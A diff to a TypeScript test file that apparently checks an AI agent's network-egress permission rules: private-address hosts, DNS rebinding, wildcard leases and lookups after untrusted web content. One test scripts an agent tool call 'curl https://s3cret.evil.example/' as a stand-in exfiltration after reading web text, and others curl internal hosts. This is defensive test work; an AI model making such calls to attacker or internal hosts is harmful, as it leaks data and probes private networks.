@@ -1,5 +1,5 @@
-import { afterAll, beforeAll, beforeEach, expect, test } from '@jest/globals'
-import { addRules, decideRequest, toolCallsOf } from '@rain/db'
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals'
+import { addRules, decideRequest, startLease, toolCallsOf } from '@rain/db'
 import { z } from 'zod'
 import { findWay } from '../egress/find-way.ts'
 import { noOwnNetwork } from '../egress/testing/names.ts'
@@ -13,6 +13,7 @@ let lab: TurnLab
 let names: Record<string, string[]> = {}
 let asked: string[] = []
 let granted: (readonly string[])[] = []
+let reached: { anywhere: readonly string[]; onTheInternet: readonly string[] }[] = []
 let whileReading: () => unknown = () => undefined
 
 const webFetch = defineTool<{ url: string }>({
@@ -27,6 +28,17 @@ const webFetch = defineTool<{ url: string }>({
   },
 })
 
+const bash = defineTool<Record<string, unknown>>({
+  name: 'bash',
+  description: 'Pretends.',
+  input: z.record(z.string(), z.unknown()),
+  repeatable: false,
+  async run(_, { allowedHosts = [], publicHosts = [] }) {
+    reached.push({ anywhere: allowedHosts, onTheInternet: publicHosts })
+    return { isError: false, content: 'done' }
+  },
+})
+
 const rules = {
   ownServices: [],
   readOwnNetwork: noOwnNetwork,
@@ -37,12 +49,13 @@ const rules = {
 }
 
 beforeAll(async () => {
-  lab = await openTurnLab({ tools: [webFetch], findWay: (target) => findWay(target, rules) })
+  lab = await openTurnLab({ tools: [webFetch, bash], sandboxed: true, findWay: (target) => findWay(target, rules) })
 })
 beforeEach(async () => {
   names = { 'nas.example.com': ['192.168.1.5'], 'example.com': ['93.184.216.34'] }
   asked = []
   granted = []
+  reached = []
   whileReading = () => undefined
   await lab.db.prisma.policyRule.deleteMany()
   await lab.newAgent()
@@ -148,4 +161,63 @@ test('leave for the rest of the turn is not leave to go home', async () => {
   whileReading = () => (names['elsewhere.example'] = ['192.168.1.1'])
   await lab.advance(turn, provider)
   expect(granted).toEqual([[], []])
+})
+
+describe('a command', () => {
+  const running = (command: string, hosts: string[] = []) =>
+    scripted(calls(['bash', { command, hosts }]), says('Done.'))
+
+  test('that names a host which leads home is asked about with its address, and reaches it once approved', async () => {
+    const provider = running('curl https://nas.example.com/ https://example.com/')
+    const turn = await advance(provider)
+    const { reasons } = await lab.event(turn, 'permission_request')
+    expect(reasons).toContainEqual(
+      expect.objectContaining({ code: 'leads_home', fragment: 'nas.example.com → 192.168.1.5' }),
+    )
+    await lab.decide(turn, 'approved')
+    await lab.advance(turn, provider)
+    expect(reached).toEqual([{ anywhere: ['nas.example.com'], onTheInternet: ['example.com'] }])
+  })
+
+  test.each([
+    ['before it starts, does not run', () => (names['example.com'] = ['192.168.1.1']), []],
+    ['after that, does not get there', () => undefined, [{ anywhere: [], onTheInternet: ['example.com'] }]],
+  ])('whose host comes to lead home %s', async (_, rebind, expected) => {
+    const provider = running('python fetch.py', ['example.com'])
+    const turn = await advance(provider)
+    await lab.decide(turn, 'approved')
+    rebind()
+    await lab.advance(turn, provider)
+    expect(reached).toEqual(expected)
+  })
+
+  test('a host that is an address or has no public name needs no word', async () => {
+    const provider = running('curl http://192.168.1.5/ http://nas.lan/')
+    const turn = await advance(provider)
+    await lab.decide(turn, 'approved')
+    await lab.advance(turn, provider)
+    expect(reached).toEqual([{ anywhere: ['192.168.1.5', 'nas.lan'], onTheInternet: [] }])
+  })
+
+  test('a lease for every host does not stand for one that leads home', async () => {
+    const rest = { devices: [], budget: null, createdBy: 'tok', red: false, until: new Date(Date.now() + 3_600_000) }
+    await startLease(lab.db, { ...rest, ...lab.agent(), tools: ['bash'], hosts: ['*'] })
+    const turn = await advance(running('curl https://nas.example.com/'))
+    expect(await lab.event(turn, 'permission_request')).toMatchObject({ tool: 'bash' })
+    expect(reached).toEqual([])
+  })
+
+  test('no name is looked up for one after the words of strangers', async () => {
+    names['s3cret.evil.example'] = ['192.168.1.1']
+    const provider = scripted(
+      calls(['web_fetch', { url: 'https://example.com/' }]),
+      calls(['bash', { command: 'curl https://s3cret.evil.example/' }]),
+      says('Done.'),
+    )
+    const turn = await advance(provider)
+    await lab.decide(turn, 'approved')
+    await lab.advance(turn, provider)
+    expect(asked).not.toContain('s3cret.evil.example')
+    expect(reached).toEqual([{ anywhere: [], onTheInternet: ['s3cret.evil.example'] }])
+  })
 })
